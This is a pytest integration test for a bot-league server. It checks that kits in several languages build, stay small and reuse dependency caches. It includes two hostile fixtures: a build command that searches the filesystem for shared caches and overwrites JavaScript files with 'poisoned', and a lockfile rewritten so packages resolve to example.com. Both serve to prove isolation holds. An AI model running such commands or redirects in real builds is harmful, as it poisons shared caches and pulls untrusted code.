"""Every language reaches the ladder of a real league server, as new authors submit.

The seven ``arena new`` kits and the JavaScript and C++ samples are each submitted by an
author of their own with ``arena submit --wait``, to a server with the sample league's caps:
each upload is under 1 MB (what the server fetches is left out), each version goes active,
and a second version that changes one source line goes active from the caches, with no
dependency fetched again. Two hostile authors share the JavaScript kit's lockfile: one
with a build that rewrites its dependencies and hunts for the shared cache, one whose
lockfile points past the registry; neither changes what the others read.
"""

from __future__ import annotations

import concurrent.futures
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from arena.sandbox.build import tree_digest
from tests.server.league_servers import ROOT, Server, free_port

KITS = ("python", "javascript", "go", "rust", "java", "cpp", "stdio")
SAMPLES = {"sample-javascript": ROOT / "sample_bots" / "javascript",
           "sample-cpp": ROOT / "sample_bots" / "cpp"}
MOST_UPLOAD = 1_000_000
SUBMIT_SECONDS = 900


def run(*args: str, token: str | None = None, timeout: float = 300
        ) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **({"ARENA_TOKEN": token} if token else {})}
    return subprocess.run([sys.executable, "-m", "arena.cli", *args], capture_output=True,
                          text=True, cwd=ROOT, timeout=timeout, env=env, check=False)


def write_bot(name: str, folder: Path) -> Path:
    target = folder / name
    if name in SAMPLES:
        shutil.copytree(SAMPLES[name], target, ignore=shutil.ignore_patterns(
            "__pycache__", "build", "node_modules"))
        toml = target / "bot.toml"
        toml.write_text(re.sub(r'^name = ".*"$', f'name = "every-{name}"', toml.read_text(),
                               count=1, flags=re.M))
    else:
        # The JavaScript kit with its vendored node_modules/ (which the upload leaves out);
        # the others as an author who never ran `arena vendor` has them.
        vendor = [] if name == "javascript" else ["--no-vendor"]
        made = run("new", "--lang", name, str(target), "--name", f"every-{name}", *vendor)
        assert made.returncode == 0, made.stderr
    return target


def change_one_line(folder: Path) -> None:
    for pattern, comment in (("bot.py", "#"), ("bot.js", "//"), ("main.go", "//"),
                             ("main.rs", "//"), ("*.java", "//"), ("bot.cpp", "//")):
        found = sorted(p for p in folder.rglob(pattern) if "node_modules" not in p.parts)
        if found:
            with open(found[0], "a") as source:
                source.write(f"\n{comment} the second version\n")
            return
    raise AssertionError(f"{folder}: no source to change")


def submit(server: Server, author: str, folder: Path) -> tuple[int, str, str]:
    """(exit code, what `arena submit --wait` printed, the upload's size in bytes)."""
    done = run("submit", str(folder), "--server", server.url, "--wait",
               token=server.tokens[author], timeout=SUBMIT_SECONDS)
    printed = done.stdout + done.stderr
    size = re.search(r"\((\d+) bytes, sources", printed)
    return done.returncode, printed, size.group(1) if size else "?"


def build_log(server: Server, author: str, bot: str, number: int) -> str:
    with server.client(author) as client:
        [version] = [v for v in client.get("/api/me").json()["versions"]
                     if v["bot"] == bot and v["number"] == number]
        answer = client.get(f"/api/versions/{version['id']}").json()
    return str(answer.get("build_log") or "")


@pytest.mark.timeout(2400)  # nine languages built twice, dependencies fetched once
def test_every_kit_and_sample_goes_active_and_again_from_the_caches(tmp_path: Path) -> None:
    league = (ROOT / "sample_bots" / "league.toml").read_text()
    league = league.replace('data = "../runs/sample-league"', 'data = "data"')
    league = league.replace("[validation]", "[validation]\nvalidators = 2")
    league = league.replace("parallel = 2", "parallel = 1").replace("per_hour = 10",
                                                                   "per_hour = 50")
    (tmp_path / "league").mkdir()
    path = tmp_path / "league" / "league.toml"
    path.write_text(league)
    server = Server(path, free_port())
    server.start()
    try:
        names = [*KITS, *SAMPLES]
        (tmp_path / "bots").mkdir()
        folders = {name: write_bot(name, tmp_path / "bots") for name in names}
        for name in [*names, "hostile", "elsewhere"]:
            server.add_author(name)
        with concurrent.futures.ThreadPoolExecutor(len(names)) as pool:
            first = dict(zip(names, pool.map(lambda n: submit(server, n, folders[n]), names),
                             strict=True))
        for name, (code, printed, size) in first.items():
            assert code == 0, f"{name}: {printed}"
            assert size != "?" and int(size) < MOST_UPLOAD, f"{name}: {size} bytes"
        assert "left out node_modules/" in first["javascript"][1]

        # The hostile authors, while the honest trees sit in the shared cache.
        builds = server.data / "builds"
        trees = {p: tree_digest(p) for p in builds.glob("fetch-*") if p.is_dir()}
        assert any(p.name.startswith("fetch-npm-") for p in trees)
        hostile = shutil.copytree(folders["javascript"], tmp_path / "bots" / "hostile",
                                  ignore=shutil.ignore_patterns("node_modules"))
        toml = hostile / "bot.toml"
        toml.write_text(re.sub(r'^name = ".*"$', 'name = "hostile"', toml.read_text(),
                               count=1, flags=re.M) + 'build = ["sh", "-c", "' + (
            "for f in $(find / -path /proc -prune -o -name 'fetch-*' -print 2>/dev/null "
            "| head -50) node_modules; do find $f -name '*.js' -exec sh -c "
            "'echo poisoned > $0' {} \\\\; 2>/dev/null; done; true") + '"]\n')
        elsewhere = shutil.copytree(hostile, tmp_path / "bots" / "elsewhere")
        toml = elsewhere / "bot.toml"
        toml.write_text(toml.read_text().replace('name = "hostile"', 'name = "elsewhere"'))
        lock = json.loads((elsewhere / "package-lock.json").read_text())
        for key, entry in lock["packages"].items():
            if key:
                entry["resolved"] = "https://example.com/" + key.replace("/", "-") + ".tgz"
        (elsewhere / "package-lock.json").write_text(json.dumps(lock))
        code, printed, _ = submit(server, "hostile", hostile)  # plays, poisoned: fails
        code, printed, _ = submit(server, "elsewhere", elsewhere)
        assert code != 0, printed
        refused = build_log(server, "elsewhere", "elsewhere", 1)
        assert "the fetch step for package-lock.json" in refused, refused
        assert "example.com is not a registry this step may reach" in refused, refused
        assert {p: tree_digest(p) for p in trees} == trees
        assert not [p for p in builds.glob("fetch-npm-*") if p.is_dir() and p not in trees
                    and "example.com" in p.name]

        for folder in folders.values():
            change_one_line(folder)
        with concurrent.futures.ThreadPoolExecutor(len(names)) as pool:
            second = dict(zip(names, pool.map(lambda n: submit(server, n, folders[n]), names),
                              strict=True))
        for name, (code, printed, _) in second.items():
            assert code == 0, f"{name} (second version): {printed}"
            bot = f"every-{name}"
            log = build_log(server, name, bot, 2)
            assert "== fetch-" not in log, f"{name} fetched again:\n{log[-2000:]}"
        rust = build_log(server, "rust", "every-rust", 2)
        assert "Compiling every-rust" in rust and "Compiling tokio" not in rust, rust[-3000:]
        assert {p: tree_digest(p) for p in trees} == trees
        with httpx.Client(base_url=server.url, timeout=30) as client:
            ladder = client.get("/api/standings").json()
        shown = json.dumps(ladder)
        for name in names:
            assert f"every-{name}" in shown, f"every-{name} is not on the ladder"
    finally:
        server.stop()
